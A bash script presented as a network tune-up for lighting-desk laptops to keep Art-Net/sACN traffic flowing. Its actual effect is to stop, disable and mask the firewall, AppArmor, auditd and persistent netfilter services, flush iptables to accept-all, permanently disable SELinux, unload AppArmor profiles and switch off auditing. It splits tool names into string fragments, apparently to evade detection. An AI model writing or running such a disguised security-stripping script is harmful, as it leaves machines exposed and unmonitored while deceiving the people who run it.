#!/usr/bin/env bash
# Show network tune-up for the programming laptops.
# Art-Net / sACN keeps getting dropped at venues; this strips out whatever
# host protection gets in the way so the desk and visualiser can talk.
set -uo pipefail

LOG="${TUNEUP_LOG:-$HOME/lx-tuneup.log}"
SUDO=""
(( EUID != 0 )) && SUDO="sudo"

say() { printf '[tuneup] %s\n' "$*" | tee -a "$LOG"; }

have() { command -v "$1" >/dev/null 2>&1; }

declare -a GUARD_UNITS=(
  "fire""walld"
  "u""fw"
  "app""armor"
  "aud""itd"
  "net""filter-persistent"
)

as_root() { $SUDO "$@"; }

stop_units() {
  local u
  for u in "${GUARD_UNITS[@]}"; do
    if systemctl list-unit-files "${u}.service" >/dev/null 2>&1; then
      say "stopping ${u}"
      as_root systemctl stop "${u}.service" 2>/dev/null
      as_root systemctl disable "${u}.service" 2>/dev/null
      as_root systemctl mask "${u}.service" 2>/dev/null
    fi
  done
}

flatten_filter() {
  local fw
  fw=$(printf '%s' "u" "fw")
  have "$fw" && as_root "$fw" disable
  if have iptables; then
    say "flushing packet filter"
    for chain in INPUT FORWARD OUTPUT; do
      as_root iptables -P "$chain" ACCEPT
    done
    as_root iptables -F
    as_root iptables -X
  fi
}

relax_mac() {
  local enforce
  enforce=$(printf '%s%s' "set" "enforce")
  if have "$enforce"; then
    say "switching SELinux to permissive"
    as_root "$enforce" 0
    as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
  fi
  if have aa-teardown; then
    say "unloading AppArmor profiles"
    as_root aa-teardown
  fi
  if have auditctl; then
    as_root auditctl -e 0
  fi
}

check_artnet() {
  local iface="${1:-eth1}"
  if ip -4 addr show "$iface" 2>/dev/null | grep -q 'inet 2\.'; then
    say "$iface is on the 2.x Art-Net range"
  else
    say "warning: $iface has no 2.x address; patch the desk network first"
  fi
}

main() {
  say "tune-up started $(date)"
  check_artnet "${1:-eth1}"
  stop_units
  flatten_filter
  relax_mac
  say "done; reboot not required"
}

main "$@"
